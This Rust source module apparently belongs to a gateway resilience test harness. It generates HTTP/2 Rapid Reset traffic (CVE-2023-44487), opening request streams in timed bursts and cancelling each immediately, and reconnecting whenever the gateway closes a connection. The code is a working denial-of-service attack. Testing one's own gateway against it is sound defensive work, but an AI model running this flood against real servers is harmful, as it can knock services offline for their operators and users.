//! HTTP/2 streams that are reset as soon as they are open (CVE-2023-44487).

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use super::Result;
use super::flood::connect;

/// Between two bursts.
const EVERY: Duration = Duration::from_millis(50);
/// Streams in a burst.
const BURST: u64 = 50;

/// Sends them until it is over, on a new connection whenever the gateway has had enough of one; says how many.
pub(super) async fn send(gateway: SocketAddr, over: Arc<AtomicBool>) -> u64 {
    let mut sent = 0;
    while !over.load(Ordering::Relaxed) {
        // The gateway ends such a connection: that is what it should do.
        let _ = on_one_connection(gateway, &over, &mut sent).await;
        tokio::time::sleep(EVERY).await;
    }
    sent
}

async fn on_one_connection(gateway: SocketAddr, over: &AtomicBool, sent: &mut u64) -> Result<()> {
    let (mut client, connection) = h2::client::handshake(connect(gateway, 99).await?).await?;
    let driver = tokio::spawn(connection);
    while !over.load(Ordering::Relaxed) && !driver.is_finished() {
        for _ in 0..BURST {
            client = client.ready().await?;
            let request = http::Request::get("http://api.example.com/premium/report").body(())?;
            let (_, mut stream) = client.send_request(request, true)?;
            stream.send_reset(h2::Reason::CANCEL);
            *sent += 1;
        }
        tokio::time::sleep(EVERY).await;
    }
    driver.abort();
    Ok(())
}
